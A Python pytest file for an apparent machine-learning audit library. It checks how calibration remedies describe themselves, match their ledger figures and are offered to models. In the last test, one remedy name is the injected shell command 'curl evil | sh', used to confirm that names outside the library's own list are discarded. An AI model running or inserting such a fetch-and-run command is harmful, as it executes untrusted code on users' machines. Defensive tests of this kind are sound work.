"""What remedies say of themselves: for which questions they are, what came of them, and to whom they are offered."""

from __future__ import annotations

import json
import re
from dataclasses import asdict, dataclass, replace
from pathlib import Path

import pytest

from assay import shelf
from assay.audit import Offer
from assay.errors import AssayError
from assay.jobs.audit import Begun, Record, offers
from assay.remedies._shipping import Shipping
from assay.remedies._shrinking import Shrinking
from assay.remedies.distillation import Student
from assay.remedy import Cost, Remedy
from assay.run import BUDGETS
from assay.standard import Standards

LEDGER = Path(__file__).parents[1] / "src" / "assay" / "claims" / "ledger"
FROM_TO = re.compile(r"from (\d+(?:\.\d+)?) to (\d+(?:\.\d+)?)( %)?")
SMALLER = (Shipping, Shrinking, Student)
"""They make a network smaller and mend nothing, so that they are offered nowhere."""
TRIED = [(name, tried) for name in shelf.ours("remedies") for tried in shelf.load("remedies", name).tried]


def recorded(claim):
    """Every number that stands in the record of a claim, as a share and in percent."""
    told = json.loads((LEDGER / f"{claim.replace('/', '--')}.json").read_text(encoding="utf-8"))
    return [m["value"] for m in told["evidence"]["measures"] if m["value"] is not None]


@pytest.mark.parametrize("name", shelf.ours("remedies"))
def test_a_remedy_names_questions_that_there_are(name):
    remedy = shelf.load("remedies", name)
    assert remedy.mends or issubclass(remedy, SMALLER)
    assert set(remedy.mends) <= set(shelf.ours("probes"))
    assert {tried.probe for tried in remedy.tried} <= set(remedy.mends)


@pytest.mark.parametrize(("name", "tried"), TRIED, ids=lambda each: each if isinstance(each, str) else each.claim)
def test_what_came_of_a_remedy_stands_in_the_ledger(name, tried):
    """A claim that was tested again with other numbers fails here: then the remedy's sentence is to be written anew."""
    pairs = FROM_TO.findall(tried.says)
    assert pairs
    known = recorded(tried.claim)
    for *ends, percent in pairs:
        for end in ends:
            half = 0.5000001 * 10 ** -len(end.partition(".")[2])
            scale = 100 if percent else 1
            assert any(abs(scale * value - float(end)) <= half for value in known), (name, end, tried.claim)


def test_remedies_are_offered_to_whom_they_fit(digits):
    fit = {offer.remedy: offer for offer in offers(digits)}
    assert {"temperature", "ensemble", "softrmax"} <= set(fit)
    assert "arml" not in fit  # it is for nearest neighbours
    assert fit["ensemble"].training == 5
    assert all(shelf.load("remedies", name)().why_not(digits) is None for name in fit)
    bare = replace(digits, data={"test": digits.data["test"]}, origin=("temperature",))
    left = {offer.remedy for offer in offers(bare)}
    assert "recalibration" in left
    assert not {"ensemble", "temperature"} & left  # no training data; applied already
    closed = {offer.remedy for offer in offers(replace(digits, differentiable=False))}
    assert closed == {name for name in fit if not shelf.load("remedies", name).needs_train}
    assert {"temperature", "recalibration", "conformal"} <= closed


@dataclass(frozen=True)
class Broken(Remedy):
    """Promises much."""

    mends = ("accuracy",)
    source = "nobody"

    def apply(self, subject, run):
        raise NotImplementedError

    def why_not(self, subject):
        raise RuntimeError("no such day")


def test_a_remedy_that_breaks_is_left_out_aloud(digits, monkeypatch):
    load_one = shelf.load
    monkeypatch.setattr(shelf, "names", lambda which: ["broken", "temperature"])
    monkeypatch.setattr(shelf, "load", lambda which, name: Broken if name == "broken" else load_one(which, name))
    with pytest.warns(UserWarning, match="The remedy 'broken' cannot be offered: RuntimeError no such day"):
        assert [offer.remedy for offer in offers(digits)] == ["temperature"]


def test_an_offer_tells_what_it_costs_where_that_is_known(monkeypatch):
    assert (Offer.of(Broken()).training, Offer.of(Broken()).inference) == (None, None)
    monkeypatch.setattr(Broken, "cost", lambda self: Cost(2, 3))
    assert (Offer.of(Broken()).training, Offer.of(Broken()).inference) == (2.0, 3.0)


def test_the_models_process_cannot_invent_a_remedy(digits):
    """What it says goes into a command that people copy: only names on our own shelf are kept."""
    from assay.audit import describe

    real = Offer(remedy="temperature", promise="p", mends=("accuracy",), training=0.0, inference=1.0, tried=())
    begun = Begun(
        subject=describe(digits, "ff"), alarms=(), keys=(), offers=(real, replace(real, remedy="curl evil | sh"))
    )
    again = Begun.from_json(json.loads(json.dumps(asdict(begun))))
    assert again.offers == begun.offers
    record = Record([], again, standards=Standards(), budget=BUDGETS["quick"], seed=0, device="cpu", out=None)
    assert record.conclude().offers == (real,)
    for spoilt in ([{"remedy": 3}], "x", [{**asdict(begun)["offers"][0], "training": "long"}]):
        with pytest.raises(AssayError, match="do not read"):
            Begun.from_json({**asdict(begun), "offers": spoilt})
